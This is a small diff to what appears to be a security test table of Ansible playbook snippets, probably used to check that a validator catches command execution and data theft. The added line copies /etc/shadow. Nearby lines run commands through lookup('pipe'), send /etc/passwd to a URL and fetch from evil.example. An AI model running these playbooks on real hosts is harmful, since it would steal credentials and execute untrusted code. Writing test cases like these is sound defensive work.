@@ -121,6 +121,7 @@ WAYS = {
     "ansible assert evaluates": "playbook: {tasks: [{assert: {that: \"lookup('pipe', 'id')\"}}]}",
     "ansible when evaluates": "playbook: {tasks: [{command: id, when: \"lookup('pipe', 'id')\"}]}",
     "ansible submits our file": "playbook: {tasks: [{uri: {url: 'http://shop/', src: /etc/passwd}}]}",
+    "ansible copies by args": "playbook: {tasks: [{copy: {dest: /tmp/x}, args: {src: /etc/shadow}}]}",
     "ansible loop": "playbook: {tasks: [{command: id, loop: [1]}]}",
     "ansible fetches": "playbook: {tasks: [{get_url: {url: 'http://evil.example/', dest: /tmp/x}}]}",
     "ansible address": f"playbook: {{tasks: [{{command: ping {OUT}}}]}}",
